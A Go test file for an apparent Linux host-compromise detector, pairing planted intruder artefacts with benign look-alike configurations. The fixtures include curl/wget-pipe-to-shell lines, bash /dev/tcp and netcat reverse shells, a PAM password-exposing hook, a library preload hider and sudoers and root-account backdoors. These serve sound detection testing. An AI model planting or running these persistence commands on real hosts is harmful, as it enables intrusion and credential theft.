package postern_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// planted are files of a Linux host as intruders leave them, after the techniques of
// ATT&CK that the rules name, each with the rule that must find it.
var planted = []struct{ path, text, rule string }{
	{"etc/cron.d/update", "*/10 * * * * root curl -fsSL http://192.0.2.9/a.sh | bash\n", "start.suspicious-command"},
	{"etc/cron.d/logs", "@reboot root /tmp/.font-unix/worker\n", "start.program-in-temporary-folder"},
	{"var/spool/cron/crontabs/www-data", "* * * * * echo Y3VybA== | base64 -d | sh\n", "start.suspicious-command"},
	{"etc/cron.daily/man", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1\n", "start.suspicious-command"},
	{"etc/systemd/system/netd.service", "[Service]\nExecStart=/dev/shm/netd\n", "start.program-in-temporary-folder"},
	{"etc/systemd/system/cache.service", "[Service]\nExecStart=/usr/lib/.cache-d/run\n", "start.hidden-folder"},
	{"etc/systemd/system/agent.service", "[Service]\nExecStart=/var/tmp/cloudflared tunnel run --token abc\n", "tool.in-odd-folder"},
	{"etc/systemd/system/ssh.service.d/a.conf", "[Service]\nExecStartPost=/bin/sh -c 'wget -q -O /tmp/x http://192.0.2.9/x; chmod +x /tmp/x'\n", "start.suspicious-command"},
	{"etc/systemd/system/web.service", "[Service]\nExecStart=/usr/bin/python3 -c \"import socket,pty;pty.spawn('/bin/sh')\"\n", "start.suspicious-command"},
	{"etc/rc.local", "#!/bin/sh\nnohup /var/tmp/kworker &\n", "start.program-in-temporary-folder"},
	{"etc/profile.d/colors.sh", "eval \"$(echo aWQ= | base64 -d)\"\n", "start.suspicious-command"},
	{"root/.bashrc", "(curl -s http://192.0.2.9/k || wget -qO- http://192.0.2.9/k) | sh\n", "start.suspicious-command"},
	{"home/anna/.bashrc", "unset HISTFILE\n", "start.suspicious-command"},
	{"etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", "start.preloaded-library"},
	{"etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log\n", "start.pam-module"},
	{"etc/pam.d/login", "auth sufficient /tmp/pam_unix.so\n", "start.pam-module"},
	{"etc/udev/rules.d/99-net.rules", `ACTION=="add", RUN+="/bin/sh -c 'nohup /dev/shm/x &'"` + "\n", "start.program-in-temporary-folder"},
	{"etc/apt/apt.conf.d/99x", `APT::Update::Pre-Invoke {"curl http://192.0.2.9/p | sh";};` + "\n", "start.suspicious-command"},
	{"etc/update-motd.d/10-help", "#!/bin/sh\nnc -e /bin/sh 192.0.2.9 443\n", "start.suspicious-command"},
	{"etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n", "setting.service-account-may-be-root"},
	{"var/www/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2E= x@y\n", "setting.key-of-service-account"},
	{"root/.ssh/authorized_keys", "command=\"curl http://192.0.2.9/s | sh\" ssh-rsa AAAAB3NzaC1yc2E= x@y\n", "setting.key-command"},
	{"etc/ssh/sshd_config", "AuthorizedKeysCommand /usr/local/bin/keys\nAuthorizedKeysCommandUser root\n", "setting.keys-from-elsewhere"},
	{"etc/hosts", "127.0.0.1 security.debian.org\n", "setting.guard-redirected"},
	{"home/anna/.bash_history", "cd /tmp\ncurl http://192.0.2.9/x -o /tmp/x; chmod +x /tmp/x\n", "trace.suspicious-command"},
	{"home/anna/.config/autostart/u.desktop", "[Desktop Entry]\nExec=/tmp/u\n", "start.program-in-temporary-folder"},
	{"etc/init.d/netns", "#!/bin/sh\nchattr +i /etc/cron.d/update\n", "start.suspicious-command"},
}

const plantedAccounts = "root:x:0:0:root:/root:/bin/bash\ntoor2:x:0:0::/home/t:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\n"

// lawful are files that look like them, as distributions, hosting panels and
// administrators have them.
var lawful = []struct{ path, text string }{
	{"etc/cron.d/php", "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n"},
	{"etc/cron.d/certbot", "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"},
	{"etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"},
	{"etc/cron.d/sysstat", "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n"},
	{"var/spool/cron/crontabs/root", "*/5 * * * * wget -q -O - https://shop.example/cron.php >/dev/null 2>&1\n0 4 * * * find /tmp -mtime +7 -delete\n"},
	{"var/spool/cron/crontabs/anna", "0 3 * * * mysqldump --socket=/tmp/mysql.sock shop | gzip > /tmp/shop.sql.gz\n*/2 * * * * curl -fsS -m 10 https://hc.example/ping/1 > /dev/null\n"},
	{"etc/cron.daily/dpkg", "#!/bin/sh\ncd /var/backups\nif [ -d /tmp ]; then cp -p /var/lib/dpkg/status .; fi\n"},
	{"etc/cron.daily/logrotate", "#!/bin/sh\nif [ -d /run/systemd/system ]; then\n exit 0\nfi\n/usr/sbin/logrotate /etc/logrotate.conf\n"},
	{"etc/systemd/system/app.service", "[Service]\nUser=www-data\nExecStart=/var/www/app/.venv/bin/gunicorn app:app --bind unix:/tmp/app.sock --worker-tmp-dir /dev/shm\n"},
	{"etc/systemd/system/node.service", "[Service]\nExecStart=/root/.nvm/versions/node/v20/bin/node /srv/app/index.js\n"},
	{"etc/systemd/system/jvm.service", "[Service]\nExecStart=/usr/bin/java -Djava.io.tmpdir=/tmp -jar /opt/app/app.jar\n"},
	{"etc/systemd/system/anydesk.service", "[Service]\nExecStart=/usr/bin/anydesk --service\n"},
	{"etc/systemd/system/smartermail.service", "[Service]\nExecStart=/opt/smartermail/MailService\nEnvironment=TMPDIR=/var/tmp\n"},
	{"etc/systemd/system/tmp.service", "[Service]\nExecStartPre=/bin/rm -rf /tmp/app\nExecStart=/usr/sbin/app --pid-file=/tmp/app.pid\n"},
	{"etc/systemd/system/mysql.service.d/malloc.conf", "[Service]\nEnvironment=\"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\"\n"},
	{"etc/rc.local", "#!/bin/sh -e\necho never > /sys/kernel/mm/transparent_hugepage/enabled\nexit 0\n"},
	{"etc/profile.d/bash_completion.sh", "if [ -n \"${BASH_VERSION-}\" ]; then . /usr/share/bash-completion/bash_completion; fi\n"},
	{"etc/profile.d/conda.sh", "eval \"$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"\n"},
	{"root/.bashrc", "export HISTSIZE=10000\nalias dl='curl -L -O'\neval \"$(dircolors -b)\"\n"},
	{"home/anna/.profile", "if [ -d \"$HOME/.local/bin\" ]; then PATH=\"$HOME/.local/bin:$PATH\"; fi\n. \"$HOME/.cargo/env\"\n"},
	{"etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsnoopy.so\n"},
	{"etc/pam.d/sshd", "auth required pam_unix.so\nsession optional pam_motd.so motd=/run/motd.dynamic\n@include common-auth\n"},
	{"etc/pam.d/su", "auth sufficient /usr/lib/x86_64-linux-gnu/security/pam_rootok.so\n"},
	{"etc/udev/rules.d/70-net.rules", `SUBSYSTEM=="net", RUN+="/usr/lib/udev/ifupdown-hotplug"` + "\n"},
	{"etc/apt/apt.conf.d/20packagekit", `DPkg::Post-Invoke { "/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/gdbus call > /dev/null; /bin/echo > /dev/null"; };` + "\n"},
	{"etc/update-motd.d/50-news", "#!/bin/sh\n[ -x /usr/bin/curl ] || exit 0\ncurl -s https://motd.example/ --max-time 3 > /var/cache/motd-news\n"},
	{"etc/sudoers", "Defaults secure_path=/usr/sbin\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\nanna ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app\nnagios ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_raid\n"},
	{"root/.ssh/authorized_keys", "from=\"192.0.2.0/24\",command=\"/usr/bin/rrsync -ro /srv\" ssh-rsa AAAAB3NzaC1yc2E= backup@vault\n"},
	{"etc/ssh/sshd_config", "PermitRootLogin prohibit-password\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys %u\nAuthorizedKeysFile .ssh/authorized_keys\n"},
	{"etc/hosts", "127.0.0.1 localhost\n192.0.2.5 mail.example mail\n0.0.0.0 ads.example\n"},
	{"home/anna/.bash_history", "ls -la\ncurl -O https://example.org/a.tar.gz\nsudo apt update && sudo apt upgrade\nbase64 -d secret.b64 > secret\nhistory | grep ssh\n"},
	{"home/anna/.config/autostart/nm.desktop", "[Desktop Entry]\nExec=nm-applet\n"},
}

const lawfulAccounts = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\npostgres:x:110:110::/var/lib/postgresql:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\n"

// leftOn examines a host of some files, and gives its findings as lines of
// "severity rule path text".
func leftOn(t *testing.T, files map[string]string) (lines []string) {
	t.Helper()
	root := filepath.Join(t.TempDir(), "host")
	if files["etc/passwd"] != "" {
		files["etc/os-release"] = "ID=debian\nNAME=Debian\n"
	}
	for name, text := range files {
		at := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(at), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	doc := examine(t, root, time.Now().UTC(), nil)
	for _, target := range doc.Targets {
		for _, f := range target.Findings {
			for _, ref := range f.Refs {
				lines = append(lines, fmt.Sprintf("%s %s %s %s", f.Severity, f.Rule, ref.Path, ref.Text))
			}
		}
	}
	return lines
}

// TestPlantedIsFound: each planted artefact is found by its rule, and none of the
// lawful ones is more than low.
func TestPlantedIsFound(t *testing.T) {
	files := map[string]string{"etc/passwd": plantedAccounts, "etc/shadow": "root:*::::::\ntoor2:$6$a$b:20000::::::\nwww-data:$6$a$b:20000::::::\nanna:$6$a$b:20000::::::\n"}
	for _, p := range planted {
		files[p.path] = p.text
	}
	found := leftOn(t, files)
	has := func(rule, path string) bool {
		return slices.ContainsFunc(found, func(l string) bool { return strings.Contains(l, " "+rule+" "+path+" ") })
	}
	for _, p := range planted {
		if !has(p.rule, p.path) {
			t.Errorf("%s: %s does not find it: %q", p.path, p.rule, p.text)
		}
	}
	for _, rule := range []string{"account.second-root", "account.service-account-logs-on"} {
		if !has(rule, "etc/passwd") {
			t.Errorf("%s finds no account", rule)
		}
	}
	if t.Failed() {
		t.Log(strings.Join(found, "\n"))
	}
}

func TestLawfulLooksQuiet(t *testing.T) {
	files := map[string]string{"etc/passwd": lawfulAccounts, "etc/shadow": "root:!::::::\nwww-data:*::::::\nsync:*::::::\npostgres:$6$a$b:20000::::::\nanna:$6$a$b:20000::::::\n"}
	for _, l := range lawful {
		files[l.path] = l.text
	}
	for _, line := range leftOn(t, files) {
		if !strings.HasPrefix(line, "low ") && !strings.HasPrefix(line, "info ") {
			t.Error(line)
		}
	}
}
